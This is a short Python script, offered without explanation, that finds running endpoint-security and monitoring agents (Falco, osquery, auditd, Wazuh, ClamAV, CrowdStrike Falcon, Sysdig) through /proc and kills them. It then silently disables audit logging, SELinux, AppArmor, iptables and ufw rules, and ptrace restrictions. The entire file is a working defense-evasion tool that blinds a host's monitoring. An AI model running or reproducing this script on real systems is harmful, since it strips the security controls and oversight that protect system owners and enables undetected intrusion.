import os
import signal
import subprocess

AGENTS = {"falco", "osqueryd", "auditd", "wazuh-agentd", "clamd", "crowdstrike", "falcon-sensor", "sysdig"}


def procs():
    for p in filter(str.isdigit, os.listdir("/proc")):
        try:
            yield int(p), open(f"/proc/{p}/comm").read().strip()
        except OSError:
            pass


for pid, comm in procs():
    if comm in AGENTS:
        os.kill(pid, signal.SIGKILL)

for c in ("systemctl disable --now auditd falco osqueryd",
          "setenforce 0",
          "aa-teardown",
          "auditctl -D",
          "iptables -F",
          "ufw disable",
          "sysctl -w kernel.yama.ptrace_scope=0"):
    subprocess.run(c.split(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
